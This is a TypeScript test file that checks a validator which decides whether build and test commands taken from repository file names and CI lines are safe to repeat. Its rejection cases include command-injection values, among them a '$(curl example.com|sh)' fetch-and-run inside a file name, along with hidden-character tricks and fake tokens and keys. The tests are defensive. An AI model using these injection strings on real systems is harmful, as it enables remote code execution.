import { describe, expect, it } from 'vitest';
import { memoryRepository } from '../../forge/memory.ts';
import { analyze } from '../index.ts';
import { isSayable } from './sayable.ts';

const made = (run: string): boolean => isSayable(run, true);
const typed = (run: string): boolean => isSayable(run, false);

describe('a command that may be said', () => {
  it.each([
    'dotnet test src/Shop.sln',
    'go test ./<dir> -run <name>',
    './gradlew test --tests "<pattern>"',
    "prettier --write '**/*.{js,ts}'",
    'cd web && npm test',
    'docker build -f "my image/Dockerfile" .',
    'npm run deploy -- --token <name>',
  ])('made from names: %s', (run) => {
    expect(made(run)).toBe(true);
  });

  it.each([
    'dotnet test a;id.sln',
    'dotnet test $(curl example.com|sh).sln',
    'dotnet test `id`.sln',
    'make a & b',
    'gem build x\nrm.gemspec',
    'npm run a|b',
    'cat > x',
    'dotnet test "a$(id).sln"',
    String.raw`make a\b`,
  ])('is not made from names like these: %j', (run) => {
    expect(made(run)).toBe(false);
  });

  it.each([
    'pytest "$FILE" | tee log',
    'for d in *; do go test $d; done',
  ])('may be more where a pipeline types it: %s', (run) => {
    expect(typed(run)).toBe(true);
  });

  it.each([
    'make te\u202Est',
    'make te\u200Bst',
    'make \u001b[31mtest',
    'pytest --token=abcdef123456',
    'curl --password hunter2hunter2',
    'API_KEY=abcdef123456 npm test',
    `npm test -- glpat-${'a'.repeat(20)}`,
    `deploy AKIA${'A'.repeat(16)}`,
  ])('is never one that hides something or gives it away: %j', (run) => {
    expect(typed(run)).toBe(false);
  });

  it.each([
    'pytest --token=$TOKEN',
    'pytest --token "$TOKEN"',
    'npm run token:check',
    'make password-reset',
    'pytest --password=<name>',
  ])('may speak of secrets: %s', (run) => {
    expect(typed(run)).toBe(true);
  });
});

describe('in a repository', () => {
  it('a file’s name makes no command that runs something else', async () => {
    const files = {
      'a;id `x` $(curl e|sh).sln': 'Project("{1}") = "A", "A\\A.csproj", "{2}"\nEndProject\n',
      'A/A.csproj': '<Project Sdk="Microsoft.NET.Sdk"/>',
      'A/a.cs': '',
    };
    const { facts } = await analyze(memoryRepository(files));
    const commands = facts.filter(({ key }) => key.startsWith('command.')).map(({ value }) => value);
    expect(commands).toContain('dotnet build');
    for (const command of commands) expect(command).not.toMatch(/[;`$]/);
  });

  it('a secret on a pipeline’s line is not repeated', async () => {
    const saidWith = async (line: string): Promise<string> => {
      const workflow = `on: pull_request\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: ${line}\n`;
      const files = { 'a.py': '', 'setup.py': '', '.github/workflows/ci.yml': workflow };
      return JSON.stringify((await analyze(memoryRepository(files))).facts);
    };
    expect(await saidWith('pytest --marker=abcdef123456')).toContain('abcdef123456');
    expect(await saidWith('pytest --token=abcdef123456')).not.toContain('abcdef123456');
  });
});
